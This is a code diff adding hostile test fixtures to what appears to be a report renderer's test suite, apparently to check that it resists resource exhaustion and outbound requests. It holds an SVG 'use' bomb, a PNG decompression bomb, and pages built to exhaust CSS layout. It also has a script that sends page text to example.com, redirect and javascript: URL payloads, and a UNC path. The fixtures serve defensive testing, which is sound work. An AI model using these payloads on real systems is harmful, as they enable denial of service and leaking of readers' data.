@@ -7,7 +7,9 @@ Each folder says where its files are put: ``tables`` are given to ``ingest``, ``
 from __future__ import annotations
 
 import io
+import struct
 import zipfile
+import zlib
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 
@@ -239,6 +241,62 @@ def seals() -> Iterator[tuple[str, bytes]]:
     )
     yield "絵でない.png", b"<script>alert(1)</script>"
     yield "大きすぎる.svg", svg.format("<!-- " + "x" * 400_000 + " -->").encode()
+    ten = '<use xlink:href="#a{}"/>' * 10
+    uses = "".join(f'<g id="a{n}">{ten}</g>'.replace("{}", str(n - 1)) for n in range(1, 12))
+    dot = '<g id="a0"><rect width="1" height="1"/></g>'
+    yield "useの爆弾.svg", svg.format(f'<defs>{dot}{uses}</defs><use xlink:href="#a11"/>').encode()
+    yield "深い入れ子.svg", svg.format("<g>" * 20_000 + "</g>" * 20_000).encode()
+    yield "大きな絵の爆弾.png", _vast_picture(40_000)
+
+
+def _vast_picture(side: int) -> bytes:
+    """A PNG of black pixels, small as a file."""
+
+    def part(kind: bytes, content: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
+        )
+
+    lines = zlib.compress((b"\0" + bytes(side // 8)) * side, 9)
+    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", lines) + part(b"IEND", b"")
+
+
+def _endless_pages() -> Iterator[tuple[str, str]]:
+    """Pages of a few letters that take a long time, or much memory, to lay out."""
+    variables = "".join(f"--a{n}:{f'var(--a{n - 1}) ' * 10};" for n in range(1, 12))
+    yield "変数の爆弾", f"<style>:root{{--a0:x;{variables}}}p::before{{content:var(--a11)}}</style><p>x"
+    yield "百万字の語", "<p>{% for a in range(50000) %}" + "美" * 20 + "{% endfor %}"
+    yield "10億列の欄", "<table><tr><td colspan=1000000000>x"
+    yield "深い入れ子", "<b>" * 5000 + "x"
+    yield "深い入れ子の段落", "{% for a in range(20000) %}<div>{% endfor %}x"
+    yield (
+        "小さすぎる紙",
+        "<style>@page{size:1px 1px;margin:0}</style><p>{% for a in range(20000) %}あ {% endfor %}",
+    )
+    yield "10万行の表", "<table>{% for a in range(100000) %}<tr><td>x{% endfor %}</table>"
+    yield "重い選び方", "<style>" + ":has(p) " * 30 + "{color:red}</style>" + "<div>" * 60 + "<p>x" * 3000
+
+
+def _reaching_pages() -> Iterator[tuple[str, str]]:
+    """Pages that would read or send, from the computer of who reads the report."""
+    yield "スクリプト", "<script>location='http://example.com/?'+document.body.innerText</script>"
+    yield "外のスクリプト", "<script src='x.js'></script>"
+    yield "押すと動く", "<p onclick='alert(1)'>x"
+    yield "動く宛先", "<a href=' java&#9;script:alert(1)'>x</a>"
+    yield "行き先を変える", "<meta http-equiv=refresh content='0;url=http://example.com/'>"
+    yield (
+        "隠した行き先",
+        "<svg><style><meta http-equiv=refresh content='0;url=http://example.com/'></style></svg>",
+    )
+    yield "注釈に隠した枠", "<!--><iframe src='//example.com'></iframe>-->"
+    yield "緩い方針", "<meta http-equiv=Content-Security-Policy content='script-src *'>"
+    yield "基点を変える", "<base href='http://example.com/'>"
+    yield "枠", "<iframe srcdoc='x'></iframe>"
+    yield "送る様式", "<form action='x'><input name=a></form>"
+    yield "よその部品", "<object data='x.swf'></object>"
+    yield "よそへの案内", "<a href='//example.com/{{ report.plan_title }}'>x</a>"
+    yield "よその共有", "<img src='\\\\example.com\\x.png'>"
 
 
 def templates() -> Iterator[tuple[str, bytes]]:
@@ -267,7 +325,13 @@ def templates() -> Iterator[tuple[str, bytes]]:
         "倍になるマクロ": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
         "自分を含む": "{% include 'report.html.j2' %}",
     }.items():
-        yield f"{name}.html.j2", f"<!DOCTYPE html><title>x</title>{body}\n".encode()
+        yield f"{name}.html.j2", _page(body)
+    for name, body in (*_endless_pages(), *_reaching_pages()):
+        yield f"{name}.html.j2", _page(body)
+
+
+def _page(body: str) -> bytes:
+    return f"<!DOCTYPE html><title>x</title>{body}\n".encode()
 
 
 KINDS = {"tables": tables, "plan": plans, "seals": seals, "templates": templates}
